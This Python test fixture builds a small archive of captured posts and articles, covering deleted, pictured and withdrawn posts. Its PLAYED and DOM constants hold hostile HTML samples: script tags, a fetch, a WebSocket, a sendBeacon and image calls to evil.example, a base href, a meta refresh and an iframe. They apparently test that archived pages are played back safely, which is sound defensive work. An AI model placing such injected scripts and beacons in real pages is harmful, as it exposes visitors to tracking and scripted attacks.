"""An archive home with real files and a real database, made of values: one post of every kind that answers differ by."""

import html
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archiver.app.runs.home import Home
from archiver.evidence import ArticleStatement, PostStatement, SnapshotDraft, write_snapshot
from archiver.ledger.withdrawals import Subject, WithdrawalDecision
from archiver.ledger.writer import Ledger
from archiver.model.articles import Article, ArticleMetadata, ArticleVersion, Markup
from archiver.model.captures import Capture, Exchange
from archiver.model.digests import JSONValue, digest
from archiver.model.embeds import Embed, Form
from archiver.model.observations import Gone, Observation, Present, Reading, Reason
from archiver.model.posts import Alias, Author, Content, Media, PostRef
from archiver.model.probes import About, Witness
from archiver.model.urls import parse_url
from archiver.reporting.withdrawals import Level
from archiver.serving.served_archive import ServedArchive
from archiver.verdicts.judge import Standing, Verdict
from tests.evidence.conftest import png

FIRST = datetime(2026, 2, 1, 2, tzinfo=UTC)
NIGHT = timedelta(days=1)
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
GONE = PostRef(platform="x", key="1911842373636882499")
PICTURED = PostRef(platform="bluesky", key="did:plc:z72i7hdynmk6r22z27h6tvur/3l66vf2q4pi26")
WITHDRAWN = PostRef(platform="x", key="20")
GONE_AT = "https://x.com/rivertown/status/1911842373636882499"
PICTURED_AT = "https://bsky.app/profile/did:plc:z72i7hdynmk6r22z27h6tvur/post/3l66vf2q4pi26"
SECRET = "words that nobody may read any more"  # noqa: S105 - the words of the withdrawn post
WORDS = "The old bridge is closed from Monday. <script>alert(1)</script>"
ARTICLE = "https://news.example/bridge"
PICTURE = png(64, 48)
PAGE_AT = "https://platform.example/embed"
PLAYED = """<!DOCTYPE html><html><head><title>Embed</title></head><body><p id="words">{words}</p><p id="ran"></p><script>
document.getElementById('ran').textContent = 'it ran';
fetch('https://evil.example/fetched').catch(() => 0);
new Image().src = 'https://evil.example/picture';
try {{ new WebSocket('wss://evil.example/socket') }} catch (error) {{ }}
navigator.sendBeacon('https://evil.example/beacon', 'x');
</script></body></html>"""
"""The page as it was fetched: its script runs only where it is played back, and asks for things elsewhere."""
DOM = (
    "<!DOCTYPE html><html><head><title>River Town</title><base href='https://evil.example/'>"
    "<link rel='preconnect' href='https://evil.example'><meta http-equiv='refresh' content='0;url=https://evil.example/'>"
    "<style>p {{ color: green; background: url(https://evil.example/b.png) }}</style></head>"
    "<body onload='alert(2)'><p>{words}</p><img src='https://evil.example/a.png'><script>alert(3)</script>"
    "<iframe src='https://evil.example/'></iframe></body></html>"
)


@dataclass(slots=True, kw_only=True)
class _Making:
    """An archive while it is being made."""

    home: Home
    ledger: Ledger
    run: int = 0
    at: datetime = FIRST

    def observe(self, post_id: int, post: PostRef, reading: Reading, verdict: Verdict) -> None:
        """Record what was observed of a post, and the verdict."""
        seen = Observation(
            post=post,
            at=self.at,
            run=self.run,
            probe="test",
            about=About.POST,
            witness=Witness.PLATFORM_API,
            reading=reading,
            body=digest(b"{}"),
            status=200,
            url=f"https://api.example/{post.key}",
        )
        self.ledger.record_observation(self.run, post_id, seen)
        self.ledger.record_verdict(self.run, post_id, verdict)

    def keep(self, post_id: int, post: PostRef, words: str, *, exchanges: Sequence[Exchange] = (), dom: bool = True) -> str:
        """Keep a snapshot of a post; returns its path."""
        shown = Exchange(
            at=self.at,
            method="GET",
            url=PAGE_AT,
            status=200,
            response_headers=(("Content-Type", "text/html; charset=utf-8"),),
            body=PLAYED.format(words=html.escape(words)).encode(),
        )
        capture = Capture(
            at=self.at,
            url=PAGE_AT,
            screenshot=png(320, 200),
            dom=DOM.format(words=words) if dom else None,
            exchanges=(shown, *exchanges),
            browser=None,
        )
        draft = SnapshotDraft(at=self.at, run=self.run, subject=PostStatement(post=post), capture=capture)
        file = write_snapshot(self.home.folder, draft, announce=lambda path: self.ledger.announce(self.run, path))
        self.ledger.record_snapshot(self.run, file, at=self.at, post_id=post_id)
        return file.path

    def keep_article(self, article: Article, version: int) -> None:
        """Keep a snapshot of an article, as it was fetched."""
        fetched = Exchange(
            at=self.at,
            method="GET",
            url=ARTICLE,
            status=200,
            response_headers=(("Content-Type", "text/html; charset=utf-8"),),
            body=article.content,
        )
        stated = ArticleVersion(
            source=article.source, markup=Markup.HTML, digest=digest(article.content), metadata=article.metadata
        )
        draft = SnapshotDraft(at=self.at, run=self.run, subject=ArticleStatement(article=stated), answers=(fetched,))
        file = write_snapshot(self.home.folder, draft, announce=lambda path: self.ledger.announce(self.run, path))
        self.ledger.record_snapshot(self.run, file, at=self.at, article_version=version)


def _present(words: str, handle: str, *media: Media) -> Present:
    return Present(content=Content(author=Author(id=handle, handle=handle, name=handle.title()), text=words, media=media))


INTACT = Verdict(standing=Standing.INTACT, reason=None, rule="V200", rests_on=(1,))
DELETED = Verdict(standing=Standing.GONE, reason=Reason.DELETED, rule="V300", changed_after=FIRST, changed_before=FIRST + NIGHT)


def make_archive(folder: Path) -> Home:
    """An archive of two nights: a post that is deleted in the second, one with a picture, one withdrawn, one without a name."""
    home = Home(folder=folder)
    at = [FIRST]
    home.database.parent.mkdir(parents=True)
    with Ledger.open(home.database, clock=lambda: at[0]) as ledger:
        making = _Making(home=home, ledger=ledger)
        making.run = ledger.begin("archive")
        text = f"<html><head><title>The bridge</title></head><body><p>{SECRET}</p></body></html>"
        stated = ArticleMetadata(url=parse_url(ARTICLE), title="The bridge", outlet="The River Times")
        quiet = Article(source=ARTICLE, text=text, markup=Markup.HTML, content=text.encode(), metadata=stated)
        version = ledger.record_article(making.run, quiet)
        posts = {}
        for post in (GONE, PICTURED, WITHDRAWN):
            words = SECRET if post == WITHDRAWN else WORDS
            embed = Embed(platform=post.platform, post=post, form=Form.BLOCKQUOTE, words=words, handle="rivertown")
            _, posts[post] = ledger.record_embed(making.run, version, embed)
        ledger.record_alias(making.run, posts[GONE], Alias("pic.twitter.com/abcDEF1234"), source="article")
        nameless = Embed(platform="x", post=None, form=Form.FLAT_TEXT, words="who knows", aliases=(Alias("t.co/unknown123"),))
        ledger.record_embed(making.run, version, nameless)
        making.keep_article(quiet, version)
        other = "<html><head><title>The ferry</title></head><body><p>The ferry goes.</p></body></html>"
        told = ArticleMetadata(url=parse_url("https://news.example/ferry"), title="The ferry")
        ferry = Article(source="https://news.example/ferry", text=other, markup=Markup.HTML, content=other.encode(), metadata=told)
        shown = ledger.record_article(making.run, ferry)
        ledger.record_embed(making.run, shown, Embed(platform="x", post=GONE, form=Form.BLOCKQUOTE, words=WORDS))
        making.keep_article(ferry, shown)
        picture = Media(key="m1", kind="photo", url="https://cdn.example/m1.png", alt="a bridge", digest=digest(PICTURE))
        fetched = Exchange(
            at=FIRST,
            method="GET",
            url="https://cdn.example/m1.png",
            status=200,
            response_headers=(("Content-Type", "image/png"),),
            body=PICTURE,
        )
        making.observe(posts[GONE], GONE, _present(WORDS, "rivertown"), INTACT)
        making.observe(posts[PICTURED], PICTURED, _present("", "ferry", picture), INTACT)
        making.observe(posts[WITHDRAWN], WITHDRAWN, _present(SECRET, "nobody"), INTACT)
        making.keep(posts[GONE], GONE, WORDS)
        making.keep(posts[PICTURED], PICTURED, "", exchanges=(fetched,), dom=False)
        making.keep(posts[WITHDRAWN], WITHDRAWN, SECRET)
        ledger.finish(making.run, {"event": "run", "run": making.run, "changes": [], "problems": []})
        at[0] = making.at = FIRST + NIGHT
        making.run = ledger.begin("check")
        making.observe(posts[GONE], GONE, Gone(reason=Reason.DELETED), DELETED)
        making.observe(posts[WITHDRAWN], WITHDRAWN, Gone(reason=Reason.DELETED), DELETED)
        making.keep(posts[GONE], GONE, "This post was deleted")
        decided = WithdrawalDecision(level=Level.RESTRICT, reason="asked by its author", by="the editor")
        ledger.record_withdrawal(making.run, Subject(post=posts[WITHDRAWN]), decided)
        changes: list[JSONValue] = [
            {"post": str(post), "from": "intact", "to": "gone", "reason": "deleted", "suspected": False}
            for post in (GONE, WITHDRAWN)
        ]
        ledger.finish(making.run, {"event": "run", "run": making.run, "changes": changes, "problems": []})
    return home


def served(home: Home) -> ServedArchive:
    """The archive as `serve` has it."""
    return ServedArchive(home=home, clock=lambda: NOW, contact="mailto:desk@example.org")
